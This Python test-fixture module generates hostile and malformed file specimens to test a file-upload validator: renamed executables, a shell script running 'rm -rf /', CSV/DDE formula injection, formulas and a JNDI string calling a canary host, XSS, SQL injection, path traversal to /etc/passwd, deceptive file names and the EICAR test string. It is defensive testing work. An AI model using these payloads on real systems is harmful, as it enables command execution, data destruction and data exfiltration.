"""Hostile names, texts, programs, films, and files that are cut, empty or of another kind than they say."""

from __future__ import annotations

import random
import struct
from collections.abc import Callable, Iterator, Mapping

from pulau.exchange.files.kinds import KINDS, Group
from tests.exchange.files.makings import OLD, good, mp4, ole
from tests.exchange.files.specimen import Given

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + rb"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PROGRAMS = (
    b"MZ\x90\0" + bytes(100),
    b"\x7fELF" + bytes(60),
    b"\xca\xfe\xba\xbe" + bytes(60),
    b"\xcf\xfa\xed\xfe" + bytes(60),
    b"#!/bin/sh\nrm -rf /\n",
    b"dex\n035\0",
    b"L\0\0\0\x01\x14\x02\0" + bytes(60),
)
LOOSE = frozenset({"mp3", "tiff", "webm", "csv", "txt", "doc", "xls", "ppt"})
"""Kinds whose end cannot be told from their bytes alone."""


def _name(code: str, stem: str = "a") -> str:
    return f"{stem}.{KINDS[code].extensions[0]}"


def programs() -> Iterator[Given]:
    for data in PROGRAMS:
        for name in ("surat.pdf", "foto.jpg", "surat.docx", "a.exe", "a.txt"):
            yield name, data, "file-program"


def pages() -> Iterator[Given]:
    for data in (
        b"<html><body onload=alert(1)>",
        b"<!DOCTYPE html>",
        b"<script>alert(1)</script>",
        b"<?php echo 1;",
        b"<%= 1 %>",
        b"\xef\xbb\xbf<html>",
        b"\n\n <!-- a --><html>",
        "<html>".encode("utf-16"),
        b"<?xml version='1.0'?><x/>",
        b"<!---->" * 5_000 + b"<html>",
    ):
        for name in ("surat.pdf", "a.html", "a.csv"):
            yield name, data, "file-active"


def old_macros() -> Iterator[Given]:
    for code, name in OLD.items():
        for macro in ("_VBA_PROJECT", "VBA", "Macros", "_VBA_PROJECT_CUR"):
            yield _name(code), ole(name, macro), "file-has-macros"
        yield _name(code), ole(name, "\x01Ole10Native"), "file-has-embedded"
        yield _name(code), ole(name, "EncryptedPackage"), "file-encrypted"
    yield "a.doc", ole("Workbook"), "file-kind-differs"
    yield "a.doc", ole(), "file-broken"
    yield "a.docx", ole("WordDocument", "_VBA_PROJECT"), "file-kind-differs"


def formulas() -> Iterator[Given]:
    for cell in (
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|x!A1",
        "-cmd|x!A1",
        '=HYPERLINK("http://canary.invalid?"&A1)',
        '=IMPORTXML("http://canary.invalid")',
        '=DDE("cmd";"/c";"x")',
        "  =1+A1",
        "\t=A1",
    ):
        for before in ("", "nama,", "nama;", 'nama,"'):
            yield "tabel.csv", f"a,b\n{before}{cell}\n".encode(), "note-formulas"


def viruses() -> Iterator[Given]:
    yield "eicar.txt", EICAR, "taken"  # for ClamAV to find; it is text
    yield "eicar.csv", EICAR, "taken"
    yield "eicar.com", EICAR, "file-kind-unknown"


def empty() -> Iterator[Given]:
    for code in KINDS:
        yield _name(code), b"", "file-empty"


def cut() -> Iterator[Given]:
    for code in KINDS:
        data = good(code)
        for tenth in (1, 3, 5, 7, 9):
            yield _name(code), data[: len(data) * tenth // 10], "any" if code in LOOSE else "refused"


def other_kinds() -> Iterator[Given]:
    media = Group.MEDIA
    pairs = [
        (a, b) for a in KINDS for b in KINDS if KINDS[a].group is not KINDS[b].group or KINDS[a].group is Group.IMAGE
    ]
    for real, claimed in pairs[::4]:
        if real != claimed and not (KINDS[real].group is media and KINDS[claimed].group is media):
            yield _name(claimed), good(real), "refused"


def extensions() -> Iterator[Given]:
    for name in (
        "surat.pdf.exe",
        "foto.jpg.html",
        "surat",
        "surat.",
        ".pdf.bat",
        "a.pdf ",
        "a.pdf.",
        "a.docm",
        "a.xlsb",
        "a.rtf",
        "a.hta",
        "a.js",
        "a.vbs",
        "a.scr",
        "a.iso",
        "a.pdf\x00.exe",
        "a.pdf;.php",
        "a.php",
        "a.svgz",
        "a.heic",
        "a.eml",
    ):
        expected = "any" if name.startswith(("a.pdf", ".pdf")) else "file-kind-unknown"
        yield name, good("pdf"), expected


def names() -> Iterator[Given]:
    for stem in (
        '"><img src=x onerror=alert(1)>',
        "{{7*7}}",
        "${jndi:ldap://canary.invalid}",
        "'; DROP TABLE bukti;--",
        "a\r\nSet-Cookie: x",
        "../../../etc/passwd",
        "..\\..\\x",
        "laporan\u202efdp.exe",
        "CON",
        "\u0000",
        "a" * 5_000,
        "é" * 300,
        "\ud800\udfff",
        "%00",
        "-rf",
        "~root",
        "\ufeff",
        "🏝" * 100,
        "a\u0301" * 200,
        "=cmd|x",
    ):
        yield f"{stem}.pdf", good("pdf"), "taken" if stem not in {"\u0000", "\ufeff"} else "file-kind-unknown"


def other_letters() -> Iterator[Given]:
    table = "unit;nilai\nDinas;3,5\n"
    for letters in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-8-sig", "latin-1", "utf-7"):
        expected = "taken" if letters in {"utf-16", "utf-8-sig", "latin-1", "utf-7"} else "refused"
        yield "tabel.csv", table.encode(letters), expected
    yield "tabel.csv", b"\xff\xfe" + b"a", "file-not-text"
    yield "tabel.csv", b"\xff\xfe\0\xd8", "file-not-text"
    yield "tabel.csv", "nama\né;".encode("latin-1"), "taken"


def no_text() -> Iterator[Given]:
    for data in (b"a\0b", b"a" * 70_000 + b"\0", b"a\x01b", b"a" * 70_000 + b"\x08", b"\x7f" * 9 + b"a"):
        for name in ("a.txt", "a.csv"):
            yield name, data, "refused"


def films() -> Iterator[Given]:
    whole = mp4(body=5_000)
    yield "film.mp4", whole[:-1], "file-cut-off"
    yield "film.mp4", whole + b"x" * 50, "refused"
    yield "film.mp4", struct.pack(">I", 16) + b"ftypisom" + bytes(4) + b"\xff" * 500, "refused"
    yield "film.mp4", whole.replace(b"moov", b"free"), "file-broken"
    yield "film.mp4", whole + struct.pack(">I4sQ", 1, b"mdat", 2**63), "file-cut-off"
    yield "film.mp4", whole + struct.pack(">I4s", 8, b"free") * 200_000, "file-broken"
    yield "film.mp4", whole + struct.pack(">I4s", 0, b"mdat") + b"x" * 90, "taken"
    yield "film.mp4", whole + good("zip"), "refused"
    yield "lagu.mp3", good("mp3") + good("zip"), "file-goes-on"
    yield "lagu.mp3", b"ID3" + b"\xff" * 900, "any"
    yield "film.webm", good("webm") + good("zip"), "file-goes-on"


def noise() -> Iterator[Given]:
    dice = random.Random(6)  # noqa: S311 - the same every time is the point
    for code in KINDS:
        yield _name(code), dice.randbytes(3_000), "refused"
        yield _name(code), good(code)[:12] + dice.randbytes(3_000), "any"


def patience() -> Iterator[Given]:
    """Texts that make a careless search long."""
    for data in (
        b"\n" * 3_000_000,
        b"\t" * 3_000_000,
        b"=" * 3_000_000,
        b" =" * 1_000_000,
        b"+a" * 1_000_000,
        b"<!--" * 500_000,
        b"<!-- -->" * 100_000,
    ):
        yield "lama.csv", data, "any"


FAMILIES: Mapping[str, Callable[[], Iterator[Given]]] = {
    "programs-renamed": programs,
    "pages-and-scripts-renamed": pages,
    "old-office-with-macros": old_macros,
    "csv-formulas": formulas,
    "eicar": viruses,
    "empty": empty,
    "cut-off": cut,
    "another-kind": other_kinds,
    "other-extensions": extensions,
    "hostile-names": names,
    "other-letters": other_letters,
    "no-text": no_text,
    "broken-films": films,
    "noise": noise,
    "long-search": patience,
}
